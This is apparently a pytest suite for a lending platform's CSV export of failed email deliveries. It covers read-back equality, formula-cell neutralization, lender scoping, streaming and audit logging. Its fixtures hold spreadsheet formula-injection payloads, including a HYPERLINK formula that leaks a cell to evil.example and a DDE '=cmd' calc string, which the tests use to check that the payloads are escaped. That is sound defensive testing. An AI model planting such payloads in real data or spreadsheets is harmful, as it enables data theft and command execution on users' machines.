"""Export failures as CSV: rows read back equal the database, safe cells, scope, streaming, audit."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st_
from sqlalchemy import String, literal, select

from commlog.db import is_postgresql, make_engine

from commlog.export import (
    HEADER,
    CsvLines,
    FailureExport,
    build_csv,
    count_failures,
    export_select,
    file_name,
    iter_csv,
    safe_text,
    iso_utc_text,
    safe_text_sql,
    stream_failures,
    write_rows,
)
from tests.factories import log_query
from commlog.log_queries import SPAN_ALL, SPAN_LENDER, SPAN_LOG, log_select
from commlog.models import Account, AuditEntry, Lender, Message
from commlog.principal import Principal, Role, ScopeError
from tests import factories as f

OPS = Principal(user_id=1, email="ops@commlog.example", role=Role.OPS, lender_id=None)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

SUBJECTS = {
    "formula_eq": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "formula_plus": "+1 555 0100 call us",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(A1:A9)",
    "formula_tab": "\tTabbed subject",
    "formula_cr": "\rCarriage return subject",
    "fullwidth": "\uff1d1+1",
    "quotes_newlines": 'Say "hello", then\nread line two\r\nand three',
    "non_latin": "Подтвердите аккаунт — 账户确认 ✓ مرحبا",
}


def _parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture
def world(engine):
    """Lender A with every kind of outcome and nasty text; lender B with failures of its own."""
    T0 = f.T0
    with engine.begin() as c:
        a = f.lender(c, "acme-lending", "Acme Lending")
        b = f.lender(c, "bravo", "=Bravo+Credit")
        zoe = f.account(c, a, 'Zoë "Z" O\'Neil, Jr.', "zoe@gmail.com")
        ivan = f.account(c, a, "Иван Петров 王小明", "ivan@yandex.ru")
        evil = f.account(c, a, "=cmd|' /C calc'!A0", "evil@example.com")
        zed = f.account(c, b, "Zed Bravo", "zed@bravo.example")
        ids: dict[str, int] = {}
        # Status failed (never sent): each carries a formula payload somewhere.
        ids["failed_eq"] = f.message(c, a, "staff@acme.example", audience="staff", subject=SUBJECTS["formula_eq"],
                                     send_status="failed", send_error="-ERR relay denied", sent_at=T0 - timedelta(hours=1))
        ids["failed_tab"] = f.message(c, a, "x@acme.example", subject=SUBJECTS["formula_tab"], send_status="failed",
                                      send_error="@timeout", sent_at=T0 - timedelta(hours=2))
        ids["failed_cr"] = f.message(c, a, "y@acme.example", subject=SUBJECTS["formula_cr"], send_status="failed",
                                     sent_at=T0 - timedelta(hours=3))
        ids["failed_fw"] = f.message(c, a, "w@acme.example", subject=SUBJECTS["fullwidth"], send_status="failed",
                                     sent_at=T0 - timedelta(hours=4))
        ids["failed_minus"] = f.message(c, a, "v@acme.example", subject=SUBJECTS["formula_minus"], send_status="failed",
                                        log_account_id=evil, sent_at=T0 - timedelta(hours=5))
        # NOT_DELIVERED after sending.
        ids["bounce"] = f.message(c, a, "zoe@gmail.com", log_account_id=zoe, subject=SUBJECTS["quotes_newlines"],
                                  email_type="password_reset", sent_at=T0)
        ids["blocked"] = f.message(c, a, "ivan@yandex.ru", log_account_id=ivan, subject=SUBJECTS["non_latin"], sent_at=T0)
        ids["dropped"] = f.message(c, a, "gone@hotmail.co.uk", subject=SUBJECTS["formula_plus"], sent_at=T0)
        ids["at_bounce"] = f.message(c, a, "at@icloud.com", subject=SUBJECTS["formula_at"], sent_at=T0)
        ids["expired"] = f.message(c, a, "slow@yahoo.com", subject="Expired deferral", sent_at=T0 - timedelta(days=4))
        # Not failures (unless include_deferred, for the first).
        ids["deferred"] = f.message(c, a, "later@gmail.com", subject="Still retrying", sent_at=T0)
        ids["delivered"] = f.message(c, a, "fine@gmail.com", subject="Delivered fine", sent_at=T0)
        ids["unchecked"] = f.message(c, a, "unknown@gmail.com", subject="Not checked", sent_at=T0)
        # Lender B.
        ids["b_bounce"] = f.message(c, b, "zed@bravo.example", log_account_id=zed, subject="Bravo secret", sent_at=T0)
        ids["b_failed"] = f.message(c, b, "ops@bravo.example", subject="Bravo failed", send_status="failed", sent_at=T0)

        f.events(c, ids["bounce"], a, ("PROCESSED", 0, None), ("BOUNCE", 1, "550 5.1.1 <zoe@gmail.com>: user unknown"))
        f.events(c, ids["blocked"], a, ("BLOCKED", 2, "554 5.7.1 Message rejected: =spam policy"))
        f.events(c, ids["dropped"], a, ("DROPPED", 1, "+suppressed after earlier bounce"))
        f.events(c, ids["at_bounce"], a, ("BOUNCE", 1, "550 5.2.1 mailbox disabled"))
        f.events(c, ids["expired"], a, ("DEFERRED", -4 * 24 * 60 + 5, "421 4.7.0 try again later"), now=T0)
        f.events(c, ids["deferred"], a, ("DEFERRED", 5, "451 4.7.28 rate limited"))
        f.events(c, ids["delivered"], a, ("DELIVERED", 1, "250 2.0.0 OK"))
        f.events(c, ids["b_bounce"], b, ("BOUNCE", 1, "550 5.1.1 bravo user unknown"))
        users = {
            "admin_a": f.user(c, "admin@acme.example", "lender_admin", "acme-lending", password=None),
            "admin_b": f.user(c, "admin@bravo.example", "lender_admin", "bravo", password=None),
            "ops": f.user(c, "ops@commlog.example", "ops", password=None),
        }
    admin_a = Principal(users["admin_a"], "admin@acme.example", Role.LENDER_ADMIN, a)
    return dict(a=a, b=b, zoe=zoe, ivan=ivan, evil=evil, zed=zed, ids=ids, users=users, admin_a=admin_a)


# --- an independent expectation, straight from the tables ----------------------------------------


def _neutral(v):
    if v is None:
        return ""
    v = str(v)
    return "'" + v if v and v[0] in FORMULA else v


def _iso(v):
    return "" if v is None else v.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def expected_rows(engine, *, lenders, include_deferred=False, account=None, lender_log_only=False):
    """What the file must hold, computed in Python from the raw tables (newest first)."""
    with engine.connect() as c:
        lender_names = dict(c.execute(select(Lender.id, Lender.name)).all())
        names = dict(c.execute(select(Account.id, Account.name)).all())
        msgs = c.execute(select(*Message.__table__.columns).where(Message.lender_id.in_(lenders))).all()
    out = []
    for m in sorted(msgs, key=lambda m: (m.sent_at, m.id), reverse=True):
        deferred = m.delivery_status == "PENDING" and m.event_mask & (1 << 1)
        if not (m.send_status == "failed" or m.delivery_status == "NOT_DELIVERED" or (include_deferred and deferred)):
            continue
        if account is not None and m.log_account_id != account:
            continue
        if lender_log_only and m.log_account_id is not None:
            continue
        out.append(
            [
                _neutral(lender_names[m.lender_id]),
                "Borrower" if m.log_account_id else "Lender",
                _neutral(names[m.log_account_id]) if m.log_account_id else "",
                str(m.log_account_id) if m.log_account_id else "",
                _iso(m.sent_at),
                m.recipient_email,
                m.recipient_domain,
                m.provider_family,
                _neutral(m.subject),
                m.email_type,
                m.send_status,
                _neutral(m.send_error),
                m.delivery_status or "NOT_CHECKED",
                m.last_event_type or "",
                _neutral(m.status_reason),
                _iso(m.last_event_at),
                _iso(m.checked_at),
                m.provider,
                m.provider_message_id or "",
                str(m.id),
            ]
        )
    return out


# --- the file equals the database ---------------------------------------------------------------


def test_file_read_back_equals_the_failure_rows_in_the_database(engine, world):
    spec = FailureExport(log_query(lender_id=world["a"]), span=SPAN_LENDER)
    data = build_csv(engine, world["admin_a"], spec, source="test", file_name="x.csv")
    rows = _parse(data)
    assert tuple(rows[0]) == HEADER
    assert rows[1:] == expected_rows(engine, lenders=[world["a"]])
    got = {int(r[-1]) for r in rows[1:]}
    ids = world["ids"]
    assert {ids["failed_eq"], ids["bounce"], ids["blocked"], ids["dropped"], ids["expired"]} <= got
    assert not got & {ids["deferred"], ids["delivered"], ids["unchecked"]}


def test_include_deferred_adds_messages_still_retrying(engine, world):
    spec = FailureExport(log_query(lender_id=world["a"]), span=SPAN_LENDER, include_deferred=True)
    rows = _parse(build_csv(engine, world["admin_a"], spec, source="test", file_name="x.csv"))
    assert rows[1:] == expected_rows(engine, lenders=[world["a"]], include_deferred=True)
    by_id = {int(r[-1]): r for r in rows[1:]}
    assert by_id[world["ids"]["deferred"]][12:14] == ["PENDING", "DEFERRED"]
    assert by_id[world["ids"]["expired"]][12] == "NOT_DELIVERED"
    assert by_id[world["ids"]["expired"]][14].startswith("expired")


def test_one_log_follows_the_logs_own_scope(engine, world):
    """SPAN_LOG: the lender's own log, or one borrower's log, exactly as the page shows it."""
    own = _parse(build_csv(engine, OPS, FailureExport(log_query(lender_id=world["a"])), source="t", file_name="x"))
    assert own[1:] == expected_rows(engine, lenders=[world["a"]], lender_log_only=True)
    zoe = _parse(
        build_csv(engine, OPS, FailureExport(log_query(lender_id=world["a"], account_id=world["zoe"])), source="t", file_name="x")
    )
    assert zoe[1:] == expected_rows(engine, lenders=[world["a"]], account=world["zoe"])
    assert [r[2] for r in zoe[1:]] == ['Zoë "Z" O\'Neil, Jr.']


@pytest.mark.parametrize(
    "extra",
    [
        {"email_type": "password_reset"},
        {"text": "gmail"},
        {"domain": "yandex.ru"},
        {"delivery_status": "NOT_DELIVERED"},
        {"send_status": "failed"},
        {"event_type": "BOUNCE"},
        {"since": f.T0 - timedelta(hours=2, minutes=30), "until": f.T0 - timedelta(minutes=30)},
        {"sort": "oldest"},
        {"sort": "recipient"},
        {"audience": "staff"},
    ],
)
def test_export_is_the_logs_query_restricted_to_failures(engine, world, extra):
    """Same filters, same order as the log (log_select), failures only."""
    lf = log_query(lender_id=world["a"], **extra)
    with engine.connect() as c:
        log_ids = list(c.execute(log_select(OPS, lf, (Message.id,), span=SPAN_LENDER)).scalars())
        failing = set(
            c.execute(select(Message.id).where((Message.send_status == "failed") | (Message.delivery_status == "NOT_DELIVERED"))).scalars()
        )
        counted = count_failures(c, OPS, FailureExport(lf, span=SPAN_LENDER))
    rows = _parse(build_csv(engine, OPS, FailureExport(lf, span=SPAN_LENDER), source="t", file_name="x"))
    assert [int(r[-1]) for r in rows[1:]] == [i for i in log_ids if i in failing]
    assert counted == len(rows) - 1


# --- safe cells ----------------------------------------------------------------------------------


def test_formula_payloads_are_text_and_everything_else_is_verbatim(engine, world):
    rows = _parse(build_csv(engine, OPS, FailureExport(log_query(lender_id=world["a"]), span=SPAN_LENDER), source="t", file_name="x"))
    by_id = {int(r[-1]): r for r in rows[1:]}
    subject = HEADER.index("Subject")
    for key in ("failed_eq", "failed_tab", "failed_cr", "failed_fw", "failed_minus", "dropped", "at_bounce"):
        cell = by_id[world["ids"][key]][subject]
        assert cell[0] == "'", (key, cell)
        assert cell[1:] in SUBJECTS.values()
    assert by_id[world["ids"]["bounce"]][subject] == SUBJECTS["quotes_newlines"]
    assert by_id[world["ids"]["blocked"]][subject] == SUBJECTS["non_latin"]
    assert by_id[world["ids"]["failed_minus"]][HEADER.index("Borrower name")] == "'=cmd|' /C calc'!A0"
    assert by_id[world["ids"]["failed_eq"]][HEADER.index("Send error")] == "'-ERR relay denied"
    assert by_id[world["ids"]["dropped"]][HEADER.index("Reason / SMTP response")].startswith("'+suppressed")
    # No cell anywhere starts like a formula.
    for row in rows:
        for cell in row:
            assert not (cell and cell[0] in FORMULA), cell


def test_rfc4180_bytes_crlf_and_doubled_quotes(engine, world):
    data = build_csv(engine, OPS, FailureExport(log_query(lender_id=world["a"], account_id=world["zoe"])), source="t", file_name="x")
    assert data.startswith(b"Lender,Log,")
    assert b"\r\n" in data and data.endswith(b"\r\n")
    assert b'"Say ""hello"", then\nread line two\r\nand three"' in data
    assert b'"Zo\xc3\xab ""Z"" O\'Neil, Jr."' in data


def test_bom_option(engine, world):
    spec = FailureExport(log_query(lender_id=world["a"]), span=SPAN_LENDER)
    plain = build_csv(engine, OPS, spec, source="t", file_name="x")
    bom = build_csv(engine, OPS, spec, source="t", file_name="x", bom=True)
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert bom == b"\xef\xbb\xbf" + plain


PAYLOADS = [*SUBJECTS.values(), "", "plain", "'already quoted", " =space first", "a=b", "\n=newline first", "é=", "😀=x"]


def test_sql_and_python_neutralize_the_same_way(engine):
    with engine.connect() as c:
        got = [c.execute(select(safe_text_sql(literal(v, String)))).scalar_one() for v in PAYLOADS]
        null = c.execute(select(safe_text_sql(literal(None, String)))).scalar_one()
    assert got == [safe_text(v) for v in PAYLOADS]
    assert null is None


@pytest.fixture(scope="module")
def memory_sqlite():
    eng = make_engine("sqlite://")
    yield eng
    eng.dispose()


@settings(max_examples=200, deadline=None)
@given(subject=st_.text(st_.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40))
def test_any_text_round_trips_through_csv_as_safe_text(memory_sqlite, subject):
    with memory_sqlite.connect() as c:
        cell = c.execute(select(safe_text_sql(literal(subject, String)))).scalar_one()
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow(["x", cell, 7])
    (back,) = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert back[1] == safe_text(subject)
    assert back[1] == subject or (back[1] == "'" + subject and subject[0] in FORMULA)


_cell = st_.text(st_.sampled_from(list('ab,"\r\n =+-@\té😀')), max_size=6)


@settings(max_examples=300, deadline=None)
@given(rows=st_.lists(st_.lists(_cell, min_size=len(HEADER), max_size=len(HEADER)), max_size=5))
def test_write_rows_is_byte_for_byte_the_csv_module(rows):
    fast, ref = CsvLines(), io.StringIO()
    write_rows(rows, fast, csv.writer(fast, lineterminator="\r\n").writerow)
    csv.writer(ref, lineterminator="\r\n").writerows(rows)
    assert "".join(fast) == ref.getvalue()


def test_iso_utc_text_matches_python(engine, world):
    with engine.connect() as c:
        rows = c.execute(select(Message.sent_at, iso_utc_text(Message.sent_at), Message.checked_at, iso_utc_text(Message.checked_at))).all()
    assert rows and all(r[1] == _iso(r[0]) and (r[3] or "") == _iso(r[2]) for r in rows)


# --- nothing matches -----------------------------------------------------------------------------


def test_header_only_file_when_nothing_matches(engine, world):
    spec = FailureExport(log_query(lender_id=world["a"], text="no such thing anywhere"), span=SPAN_LENDER)
    data = build_csv(engine, OPS, spec, source="t", file_name="x")
    assert data == (",".join(HEADER) + "\r\n").encode()
    with engine.connect() as c:
        assert count_failures(c, OPS, spec) == 0


# --- scope ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "make_filter",
    [
        lambda w: log_query(lender_id=w["a"]),
        lambda w: log_query(lender_id=w["a"], account_id=w["zed"]),  # lender B's borrower
        lambda w: log_query(lender_id=w["a"], text="bravo"),
        lambda w: log_query(lender_id=w["a"], domain="bravo.example"),
    ],
)
@pytest.mark.parametrize("span", [SPAN_LOG, SPAN_LENDER])
def test_lender_admin_export_never_contains_another_lenders_row(engine, world, make_filter, span):
    data = build_csv(engine, world["admin_a"], FailureExport(make_filter(world), span=span), source="t", file_name="x")
    b_ids = {world["ids"]["b_bounce"], world["ids"]["b_failed"]}
    rows = _parse(data)[1:]
    assert not {int(r[-1]) for r in rows} & b_ids
    assert b"Bravo" not in data and b"bravo" not in data


@pytest.mark.parametrize("spec", ["other_lender", "all_lenders", "other_lender_lender_span"])
def test_lender_admin_cannot_ask_for_another_lender_or_all(engine, world, spec):
    specs = {
        "other_lender": FailureExport(log_query(lender_id=world["b"])),
        "other_lender_lender_span": FailureExport(log_query(lender_id=world["b"]), span=SPAN_LENDER),
        "all_lenders": FailureExport(log_query(lender_id=world["a"]), span=SPAN_ALL),
    }
    with pytest.raises(ScopeError):
        export_select(world["admin_a"], specs[spec])
    with pytest.raises(ScopeError):
        list(stream_failures(engine, world["admin_a"], specs[spec], source="t", file_name="x"))
    with engine.connect() as c:
        assert c.execute(select(AuditEntry)).first() is None  # refused before anything was exported


def test_ops_all_lenders(engine, world):
    spec = FailureExport(log_query(lender_id=0, since=f.T0 - timedelta(days=30)), span=SPAN_ALL)
    rows = _parse(build_csv(engine, OPS, spec, source="t", file_name="x"))
    assert rows[1:] == expected_rows(engine, lenders=[world["a"], world["b"]])
    assert {r[0] for r in rows[1:]} == {"Acme Lending", "'=Bravo+Credit"}


# --- streaming -----------------------------------------------------------------------------------


def test_rows_are_streamed_in_chunks(engine, world):
    stmt = export_select(OPS, FailureExport(log_query(lender_id=world["a"]), span=SPAN_LENDER))
    seen: list[int] = []
    with engine.connect() as c:
        chunks = list(iter_csv(c, stmt, chunk_rows=3, on_rows=seen.append))
    total = len(expected_rows(engine, lenders=[world["a"]]))
    assert sum(seen) == total and max(seen) <= 3
    assert len(chunks) == 1 + len(seen)  # header, then one chunk per fetch
    assert chunks[0] == (",".join(HEADER) + "\r\n").encode()


def test_rows_come_from_an_open_cursor_while_the_file_is_written(engine, world):
    """The first rows are written before the rest are read: on PostgreSQL from a server-side cursor,
    which is open while the caller writes and closed when the export ends early."""
    stmt = export_select(OPS, FailureExport(log_query(lender_id=world["a"]), span=SPAN_LENDER))
    with engine.connect() as c:
        chunks = iter_csv(c, stmt, chunk_rows=2)
        next(chunks)  # header
        assert len(list(csv.reader(io.StringIO(next(chunks).decode(), newline="")))) == 2
        if is_postgresql(engine):
            cursors = "SELECT count(*) FROM pg_cursors"
            assert c.connection.driver_connection.execute(cursors).fetchone()[0] == 1
            chunks.close()  # the user cancelled the download
            assert c.connection.driver_connection.execute(cursors).fetchone()[0] == 0


# --- audit ---------------------------------------------------------------------------------------


def _audit(engine):
    with engine.connect() as c:
        return c.execute(select(*AuditEntry.__table__.columns).order_by(AuditEntry.id)).all()


def test_every_export_is_audited_with_scope_filters_and_row_count(engine, world, now):
    spec = FailureExport(log_query(lender_id=world["a"], email_type="password_reset", since=now - timedelta(days=7)),
                         span=SPAN_LENDER, include_deferred=True)
    data = build_csv(engine, world["admin_a"], spec, source="page", file_name="f.csv", bom=True, now=now,
                     audit_extra={"tz": "Europe/Berlin"})
    (entry,) = _audit(engine)
    assert entry.action == "export"
    assert entry.user_email == "admin@acme.example" and entry.role == "lender_admin"
    assert entry.lender_id == world["a"]
    assert entry.at == now
    assert entry.row_count == len(_parse(data)) - 1
    filters = json.loads(entry.filters)
    assert filters["span"] == "lender" and filters["include_deferred"] is True and filters["bom"] is True
    assert filters["source"] == "page" and filters["tz"] == "Europe/Berlin"
    assert filters["filter"]["type"] == "password_reset"  # as in the log's URL
    assert filters["filter"]["since"] == (now - timedelta(days=7)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert "complete" in entry.detail and "f.csv" in entry.detail


def test_all_lenders_export_is_audited_with_null_scope(engine, world):
    build_csv(engine, OPS, FailureExport(log_query(lender_id=0), span=SPAN_ALL), source="cli", file_name="all.csv")
    (entry,) = _audit(engine)
    assert entry.lender_id is None
    assert "lender_id" not in json.loads(entry.filters)["filter"]


def test_an_export_stopped_midway_is_still_audited(engine, world):
    gen = stream_failures(engine, OPS, FailureExport(log_query(lender_id=world["a"]), span=SPAN_LENDER),
                          source="cli", file_name="x.csv", chunk_rows=2)
    next(gen)  # header
    next(gen)  # two rows
    gen.close()
    (entry,) = _audit(engine)
    assert entry.row_count == 2 and "stopped" in entry.detail


# --- file name -----------------------------------------------------------------------------------


def test_file_name_has_lender_slug_and_date_range():
    berlin = ZoneInfo("Europe/Berlin")
    since = datetime(2026, 10, 31, 23, 0, tzinfo=timezone.utc)  # 1 Nov in Berlin
    until = datetime(2026, 11, 30, 23, 0, tzinfo=timezone.utc)  # end of 30 Nov in Berlin
    now = datetime(2026, 12, 5, tzinfo=timezone.utc)
    assert file_name("acme-lending", since, until, berlin, now) == "failures_acme-lending_2026-11-01_to_2026-11-30.csv"
    assert file_name(None, None, None, berlin, now) == "failures_all-lenders_start_to_2026-12-05.csv"
    assert file_name("Acme/../x", since, None, berlin, now, account_id=42) == "failures_acme-x_borrower-42_2026-11-01_to_2026-12-05.csv"


def test_sql_is_one_statement_with_the_failure_condition(world):
    sql = str(export_select(OPS, FailureExport(log_query(lender_id=world["a"]), include_deferred=True)).compile())
    assert sql.count("SELECT") == 1
    where = sql.split("WHERE", 1)[1]
    assert "message.send_status" in where and "message.delivery_status" in where and "event_mask" in where
    assert "message.lender_id =" in where and "log_account_id IS NULL" in where


def test_sql_for_all_lenders_has_no_lender_condition(world):
    sql = str(export_select(OPS, FailureExport(log_query(lender_id=0), span=SPAN_ALL)).compile())
    where = sql.split("WHERE", 1)[1]
    assert "lender_id" not in where and "log_account_id" not in where

